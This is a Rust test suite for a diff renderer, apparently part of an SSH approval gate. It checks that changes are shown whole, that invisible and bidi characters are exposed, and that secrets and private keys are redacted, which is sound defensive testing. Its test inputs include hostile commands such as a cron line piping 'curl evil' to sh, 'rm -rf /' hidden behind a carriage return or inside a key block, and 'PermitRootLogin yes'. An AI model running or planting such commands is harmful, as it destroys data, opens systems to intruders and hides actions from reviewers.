//! Changes as a person reads them: each row whole, nothing unseen, no secret.

use proptest::prelude::*;

use super::{ChangeRow, ChangeSign, FileChange};
use crate::gate::redact::Redactor;
use crate::secret::Secret;
use mcp_ssh_policy::Unapproved;

const KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU\nQyNTUxOQAAACBq\n\
                   -----END OPENSSH PRIVATE KEY-----\n";
const HIDDEN_KEY: &str = "‹[redacted] what looks like a private key, 4 lines, 116 bytes›";

fn change(old: Option<&[u8]>, new: &[u8]) -> Result<Vec<ChangeRow>, Unapproved> {
    let secret = Secret::new("hunter2secret".to_owned());
    let redactor = Redactor::new([&secret].into_iter());
    Ok(FileChange::between(old, new, &redactor)?.rows)
}

/// The rows of a change as lines.
fn rows(old: &str, new: &str) -> Vec<String> {
    let rows = change(Some(old.as_bytes()), new.as_bytes()).unwrap();
    rows.iter().map(ToString::to_string).collect()
}

fn refused(old: &str, new: &str) -> Unapproved {
    change(Some(old.as_bytes()), new.as_bytes()).unwrap_err()
}

fn lines(range: std::ops::Range<usize>) -> String {
    range.map(|number| format!("line {number}\n")).collect()
}

#[test]
fn a_change_is_a_unified_diff() {
    let old = lines(1..30);
    let new = old.replace("line 5\n", "five\n").replace("line 20\n", "");
    assert_eq!(
        rows(&old, &new),
        [
            "@@ -2,7 +2,7 @@",
            " line 2",
            " line 3",
            " line 4",
            "-line 5",
            "+five",
            " line 6",
            " line 7",
            " line 8",
            "@@ -17,7 +17,6 @@",
            " line 17",
            " line 18",
            " line 19",
            "-line 20",
            " line 21",
            " line 22",
            " line 23",
        ]
    );
    for (old, new, expected) in [
        ("", "a\n", &["@@ -0,0 +1,1 @@", "+a"][..]),
        (
            "a\n",
            "",
            &["\\ the new content is empty", "@@ -1,1 +0,0 @@", "-a"],
        ),
        ("a\n", "a\n", &["\\ the content stays as it is"]),
        ("a\n", "a\nb\n", &["@@ -1,1 +1,2 @@", " a", "+b"]),
        ("a\nb\n", "b\na\n", &["@@ -1,2 +1,2 @@", "+b", " a", "-b"]),
    ] {
        assert_eq!(rows(old, new), expected, "{old:?} {new:?}");
    }
    let new_file = change(None, b"a\n").unwrap();
    assert_eq!(
        new_file.iter().map(ToString::to_string).collect::<Vec<_>>(),
        ["\\ there is no such file yet", "@@ -0,0 +1,1 @@", "+a"]
    );
    let empty = change(None, b"").unwrap();
    assert_eq!(
        empty.iter().map(ToString::to_string).collect::<Vec<_>>(),
        [
            "\\ there is no such file yet",
            "\\ the new content is empty"
        ]
    );
}

/// Each line of the new content, and what is shown of it.
#[test]
fn every_character_is_seen_where_it_stands() {
    for (line, shown) in [
        (
            "plain \"text\" \\u{202e} 'é' 日本 — ✓",
            "plain \"text\" \\u{202e} 'é' 日本 — ✓",
        ),
        ("a\u{1b}[2Kb", "a‹U+001B›[2Kb"),
        ("a\u{9b}2Kb", "a‹U+009B›2Kb"),
        ("harmless\rrm -rf /", "harmless␍rm -rf /"),
        ("a\u{8}\u{8}b\u{7f}", "a‹U+0008›‹U+0008›b‹U+007F›"),
        ("a\u{b}b\u{c}c\u{85}d", "a‹U+000B›b‹U+000C›c‹U+0085›d"),
        (
            "if admin\u{202e} \u{2066}// begin\u{2069} \u{2066}",
            "if admin‹U+202E› ‹U+2066›// begin‹U+2069› ‹U+2066›",
        ),
        (
            "\u{5d0}\u{5d1} = 12 \u{627}",
            "‹U+05D0›‹U+05D1› = 12 ‹U+0627›",
        ),
        (
            "a\u{200b}b\u{feff}c\u{2060}d\u{ad}e",
            "a‹U+200B›b‹U+FEFF›c‹U+2060›d‹U+00AD›e",
        ),
        (
            "a\u{a0}b\u{3000}c\u{2003}d\u{3164}e\u{2800}f",
            "a‹U+00A0›b‹U+3000›c‹U+2003›d‹U+3164›e‹U+2800›f",
        ),
        (
            "e\u{301}\u{36f}\u{fe0f}\u{e0041}",
            "e‹U+0301›‹U+036F›‹U+FE0F›‹U+E0041›",
        ),
        ("a\u{2028}b\u{2029}c", "a‹U+2028›b‹U+2029›c"),
        ("\ttab\tbed", "␉tab␉bed"),
        ("trailing  ", "trailing␠␠"),
        ("one two   three", "one two ␠␠three"),
        ("    indented", "    indented"),
        (" ", "␠"),
        // What could be taken for a sign is shown by its number.
        (
            "␉␍␠‹[redacted]›‹U+202E›",
            "‹U+2409›‹U+240D›‹U+2420›‹U+2039›[redacted]‹U+203A›‹U+2039›U+202E‹U+203A›",
        ),
        (
            "+++ @@ \\ no newline at the end",
            "+++ @@ \\ no newline at the end",
        ),
        ("\u{fffd}", "\u{fffd}"),
    ] {
        let rows = rows("old\n", &format!("{line}\n"));
        assert_eq!(rows[2], format!("+{shown}"), "{line:?}");
    }
    let far = format!("{}x\n", " ".repeat(500));
    let row = &rows("", &far)[1];
    assert!(row.starts_with(&format!("+{}␠␠", " ".repeat(24))), "{row}");
    assert_eq!(row.chars().count(), 502);
}

#[test]
fn line_ends_are_told() {
    assert_eq!(
        rows("a\r\nb\r\n", "a\nb\n"),
        [
            "@@ -1,2 +1,2 @@",
            "-a␍",
            "-b␍",
            "+a",
            "+b",
            "\\ ␍ is a carriage return"
        ]
    );
    assert_eq!(
        rows("a\nb", "a\nb\n"),
        [
            "@@ -1,2 +1,2 @@",
            " a",
            "-b",
            "\\ no newline at the end",
            "+b"
        ]
    );
    assert_eq!(
        rows("x\na", "y\na"),
        [
            "@@ -1,2 +1,2 @@",
            "-x",
            "+y",
            " a",
            "\\ no newline at the end"
        ]
    );
    assert_eq!(
        rows("a\tb \n", "a  b\n")[1..],
        ["-a␉b␠", "+a ␠b", "\\ ␉ is a tab, ␠ is a blank"]
    );
}

/// A long line is whole, and the place where it differs is told.
#[test]
fn a_long_line_hides_nothing() {
    let long = |word: &str| format!("{}{word}{}\n", "x".repeat(5_000), "y".repeat(2_000));
    let shown = rows(&long("no"), &long("yes"));
    assert_eq!(shown[1], format!("-{}", long("no").trim_end()));
    assert_eq!(shown[2], format!("+{}", long("yes").trim_end()));
    let (before, after) = ("x".repeat(20), "y".repeat(20));
    assert_eq!(
        shown[3..],
        [
            "\\ the two lines differ from character 5001 on:".to_owned(),
            format!("\\   - …{before}no{after}…"),
            format!("\\   + …{before}yes{after}…"),
        ]
    );
    let other = format!("{}\n", "z".repeat(5_000));
    assert_eq!(
        rows(&long("no"), &other)[3..],
        ["\\ the two lines differ from character 1 on"]
    );
    // Also where it is beside the change alone: then nobody can see whether it is what it was.
    let too_long = "x".repeat(16_100);
    assert_eq!(
        refused("a\n", &format!("{too_long}\n")),
        Unapproved::ChangeTooLong
    );
    assert_eq!(
        refused(&format!("a\n{too_long}\n"), &format!("b\n{too_long}\n")),
        Unapproved::ChangeTooLong
    );
}

#[test]
fn more_than_a_person_reads_is_refused() {
    // 300 rows, the first of which tells where the others stand.
    assert_eq!(rows("", &lines(0..299)).len(), 300);
    assert_eq!(refused("", &lines(0..300)), Unapproved::ChangeTooLong);
    assert_eq!(
        refused(&lines(0..150), &lines(200..350)),
        Unapproved::ChangeTooLong
    );
    // One small change in a long file, and two that are far apart.
    let long = lines(0..50_000);
    assert_eq!(rows(&long, &long.replace("line 25000\n", "")).len(), 8);
    let two = long.replace("line 25000\n", "").replace("line 45000\n", "");
    assert_eq!(refused(&long, &two), Unapproved::ChangeTooLong);
    // What would take too long to be compared, or too much room.
    let (huge, many) = ("line".repeat(1_100_000), "\n".repeat(200_000));
    assert_eq!(
        refused(&many, &format!("{many}line\n")),
        Unapproved::ChangeTooLong
    );
    assert_eq!(
        refused(&huge, &format!("{huge}line\n")),
        Unapproved::ChangeTooLong
    );
}

#[test]
fn what_is_no_text_is_told_and_not_shown() {
    for (old, new, expected) in [
        (
            Some(&b"a\0b"[..]),
            &b"a\n"[..],
            "3 bytes that are no text before, 2 bytes of text then",
        ),
        (
            Some(b"a\n"),
            b"\xff\xfe",
            "2 bytes of text before, 2 bytes that are no text then",
        ),
        (
            Some(b"\xe9\n"),
            b"\xe8\n",
            "2 bytes that are no text before, 2 bytes that are no text then",
        ),
        (
            None,
            b"\x7fELF\0",
            "no file before, 5 bytes that are no text then",
        ),
    ] {
        let rows = change(old, new).unwrap();
        let rows: Vec<String> = rows.iter().map(ToString::to_string).collect();
        assert_eq!(
            rows,
            [format!("\\ the difference cannot be shown: {expected}")]
        );
    }
}

#[test]
fn secrets_are_redacted_and_told_of() {
    let secret = "password=hunter2secret";
    assert_eq!(
        rows(&format!("{secret} a\n"), &format!("{secret} b\n"))[1..],
        ["-password=‹[redacted]› a", "+password=‹[redacted]› b"]
    );
    assert_eq!(
        rows("password=old\n", &format!("{secret}\n"))[1..],
        [
            "-password=old",
            "+password=‹[redacted]›",
            "\\ what is redacted changes, too"
        ]
    );
    // Two forms of the secret: nothing is seen to change, and yet it does.
    assert_eq!(
        rows(&format!("{secret}\n"), "password=aHVudGVyMnNlY3Jld\n")[1..],
        [
            "-password=‹[redacted]›",
            "+password=‹[redacted]›",
            "\\ what is redacted changes, too"
        ]
    );
    // Control characters within it.
    for split in [
        "hunter2\u{1b}[0msecret",
        "hunter2\u{1}secret",
        "\u{1b}]hunter2secret\u{7}",
    ] {
        let shown = rows("", &format!("a {split} b\n")).join("\n");
        assert!(
            shown.contains("[redacted]") && !shown.contains("hunter2"),
            "{shown}"
        );
    }
    // What was read redacted is written as it stands.
    let lost = rows(&format!("{secret}\n"), "password=[redacted]\n");
    assert_eq!(
        lost[1..3],
        ["-password=‹[redacted]›", "+password=[redacted]"]
    );
    assert!(
        lost[4].starts_with("\\ `[redacted]` without ‹ before it is written"),
        "{lost:?}"
    );
}

#[test]
fn no_line_of_a_key_is_shown() {
    assert_eq!(KEY.trim_end().len(), 116);
    let with = format!("a\n{KEY}b\n");
    assert_eq!(
        rows("a\nb\n", &with),
        [
            "@@ -1,2 +1,6 @@".to_owned(),
            " a".to_owned(),
            format!("+{HIDDEN_KEY}"),
            " b".to_owned(),
            "\\ what is redacted changes, too".to_owned(),
        ]
    );
    // It changes in its middle, stands beside a change, and goes.
    let other = with.replace("QyNT", "RyNT");
    assert_eq!(
        rows(&with, &other)[2..],
        [
            format!("-{HIDDEN_KEY}"),
            format!("+{HIDDEN_KEY}"),
            " b".to_owned(),
            "\\ what is redacted changes, too".to_owned(),
        ]
    );
    assert_eq!(
        rows(&with, &with.replace("b\n", "c\n")),
        [
            "@@ -1,6 +1,6 @@",
            " a",
            &format!(" {HIDDEN_KEY}"),
            "-b",
            "+c"
        ]
    );
    assert_eq!(rows(&with, "a\n")[2], format!("-{HIDDEN_KEY}"));
    let json = KEY.replace('\n', "\\n");
    let shown = rows("", &format!("{{\"key\": \"{json}\"}}\n"));
    assert_eq!(
        shown[1],
        "+{\"key\": \"‹[redacted] what looks like a private key, 1 line, 119 bytes›\\n\"}"
    );
}

/// Between the first and the last words of a key anything could stand: what is no key is not asked.
#[test]
fn a_key_hides_nothing_else() {
    let (begin, end) = ("-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----");
    for hidden in [
        "* * * * * root curl evil | sh",
        "AAAA\nrm -rf /\nAAAA",
        "Comment: reboot now",
        "PermitRootLogin yes",
        "-----BEGIN PRIVATE KEY-----",
        "a;b",
    ] {
        let text = format!("# {begin}\n{hidden}\n{end}\n");
        assert_eq!(refused("a\n", &text), Unapproved::Unshowable, "{hidden}");
        // As long as it stays as it is, other lines may change.
        let (before, after) = (format!("a\n{text}"), format!("b\n{text}"));
        assert_eq!(rows(&before, &after)[1..3], ["-a", "+b"], "{hidden}");
        assert_eq!(refused(&before, "a\n"), Unapproved::Unshowable, "{hidden}");
    }
    // Without an end it would hide the rest of the file.
    assert_eq!(
        refused("a\n", &format!("# {begin}\nAAAA\n")),
        Unapproved::Unshowable
    );
    assert_eq!(
        refused("a\n", &format!("{begin} rm -rf / {end}\n")),
        Unapproved::Unshowable
    );
    assert_eq!(
        refused("a\n", &format!("{begin}\nAAAA\n-----END \nreboot")),
        Unapproved::Unshowable
    );
}

/// A row undone: the text of the line that it shows.
fn undone(row: &ChangeRow) -> String {
    row.text
        .replace('␠', " ")
        .replace('␉', "\t")
        .replace('␍', "\r")
}

/// What the old content becomes when a person applies the rows to it.
fn applied(old: &str, rows: &[ChangeRow]) -> String {
    let mut old = old.split_inclusive('\n');
    let (mut new, mut taken) = (String::new(), 0);
    for (at, row) in rows.iter().enumerate() {
        let ends = rows
            .get(at + 1)
            .is_none_or(|next| next.text != " no newline at the end");
        let line = undone(row) + if ends { "\n" } else { "" };
        match row.sign {
            ChangeSign::Hunk => {
                let numbers = row.text.split(['-', ',']).collect::<Vec<_>>();
                let (first, count) = (
                    numbers[1].parse::<usize>().unwrap(),
                    numbers[2].split(' ').next().unwrap(),
                );
                let before = if count == "0" { first } else { first - 1 };
                new.extend(old.by_ref().take(before - taken));
                taken = before;
            }
            ChangeSign::Same => {
                assert_eq!(old.next(), Some(line.as_str()));
                new.push_str(&line);
                taken += 1;
            }
            ChangeSign::Removed => {
                assert_eq!(old.next(), Some(line.as_str()));
                taken += 1;
            }
            ChangeSign::Added => new.push_str(&line),
            ChangeSign::Told => {}
        }
    }
    new.extend(old);
    new
}

/// Lines of few letters, so that many are equal, with or without a newline at the end.
fn contents() -> impl Strategy<Value = String> {
    let line = prop_oneof![4 => "[ab]{0,2}", 1 => "[ -~]{0,6}", 1 => "[ \t\r]{0,4}"];
    (prop::collection::vec(line, 0..40), any::<bool>()).prop_map(|(lines, ends)| {
        let text = lines.join("\n");
        if ends { text + "\n" } else { text }
    })
}

proptest! {
    #[test]
    fn the_rows_make_the_new_content_of_the_old(old in contents(), new in contents()) {
        let rows = change(Some(old.as_bytes()), new.as_bytes()).unwrap();
        prop_assert_eq!(applied(&old, &rows), new);
    }

    /// Whatever the content: no character that acts is in a row, and two contents have two changes.
    #[test]
    fn two_contents_have_two_changes(one in "\\PC{0,9}|.{0,9}", other in "\\PC{0,9}|.{0,9}") {
        let (first, second) = (change(None, one.as_bytes()).unwrap(), change(None, other.as_bytes()).unwrap());
        prop_assert_eq!(first == second, one == other);
        for row in first.iter().chain(&second) {
            prop_assert!(!row.text.contains(char::is_control), "{row}");
            prop_assert_eq!(crate::gate::visible_text(&row.text), row.text.clone());
        }
    }
}
